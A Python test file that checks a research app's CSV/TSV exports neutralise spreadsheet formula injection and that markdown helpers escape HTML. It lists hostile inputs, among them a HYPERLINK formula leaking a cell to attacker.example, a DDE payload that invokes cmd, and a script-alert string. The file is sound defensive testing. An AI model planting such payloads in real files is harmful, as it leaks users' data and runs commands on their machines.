"""No export hands a spreadsheet a formula: a PDF titled `=HYPERLINK(...)`, a card or a
timeline event written by the model, a comparison cell. Every CSV/TSV download is read
back through the csv module and no cell starts with = + - @, a tab or a carriage return."""

from __future__ import annotations

import csv
import io

import pytest

from research.models import Comparison, ComparisonCell
from research.study.generators import flashcards, timelines
from tests.research.study.test_generation import document, study_project
from workspace.export_text import (
    FORMULA_STARTS,
    SpreadsheetWriter,
    markdown_line,
    markdown_text,
    spreadsheet_cell,
)

pytestmark = pytest.mark.django_db

HOSTILE = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_formula_cell_gets_a_leading_quote_and_everything_else_is_kept():
    for text in HOSTILE[:-1]:
        assert spreadsheet_cell(text) == "'" + text
    assert spreadsheet_cell("\r=1+1") == "'\n=1+1"
    assert spreadsheet_cell("a\r\nb\rc") == "a\nb\nc"
    for fine in ["Glaciers", " =not at the start", "", "'quoted", "1.5"]:
        assert spreadsheet_cell(fine) == fine
    assert spreadsheet_cell(-3) == -3  # a number is not a formula
    out = io.StringIO()
    SpreadsheetWriter(out, delimiter="\t").writerows([HOSTILE, ["a", "b"]])
    rows = list(csv.reader(io.StringIO(out.getvalue(), newline=""), delimiter="\t"))
    assert rows == [[spreadsheet_cell(text) for text in HOSTILE], ["a", "b"]]


def test_markdown_helpers_show_html_as_text():
    assert markdown_text("<script>alert(1)</script> & co\nnext") == (
        "&lt;script&gt;alert(1)&lt;/script&gt; &amp; co\nnext"
    )
    assert markdown_line("  a\n\n<b>  b ") == "a &lt;b&gt; b"


def _cells(text: str, delimiter: str = ",") -> list[str]:
    body = "\n".join(line for line in text.splitlines() if not line.startswith("#"))
    rows = csv.reader(io.StringIO(body, newline=""), delimiter=delimiter)
    return [cell for row in rows for cell in row]


def test_every_csv_and_tsv_export_neutralises_formulas(signed_in_client, user):
    project = study_project(user)
    glacier = document(project, "Glacial erosion")
    glacier.title = HOSTILE[0]
    glacier.save(update_fields=["title"])
    for text in HOSTILE:
        flashcards.flashcard_create(
            project=project, kind="basic", front=text, back=text, tags=[text.strip()]
        )
        timelines.event_save(
            project=project,
            event=None,
            title=text,
            description=text,
            start=timelines.When(1990),
            end=None,
            precision="year",
            tags=[],
            document_id=glacier.pk,
            pages=[1],
        )
    table = Comparison.objects.create(
        project=project, title="t", document_ids=[glacier.pk], aspects=HOSTILE
    )
    for text in HOSTILE:
        ComparisonCell.objects.create(
            comparison=table, document=glacier, aspect=text, text=text, pages=[]
        )
    downloads = [
        (f"/research/{project.pk}/flashcards/export/csv/", ","),
        (f"/research/{project.pk}/flashcards/export/tsv/", "\t"),
        (f"/research/{project.pk}/timeline/export/csv/", ","),
        (f"/research/comparisons/{table.pk}/export/csv/", ","),
    ]
    for url, delimiter in downloads:
        response = signed_in_client.get(url)
        assert response.status_code == 200, url
        cells = _cells(response.content.decode(), delimiter)
        assert [cell for cell in cells if cell.startswith(FORMULA_STARTS)] == [], url
        assert any(cell.startswith("'=HYPERLINK(") for cell in cells), url
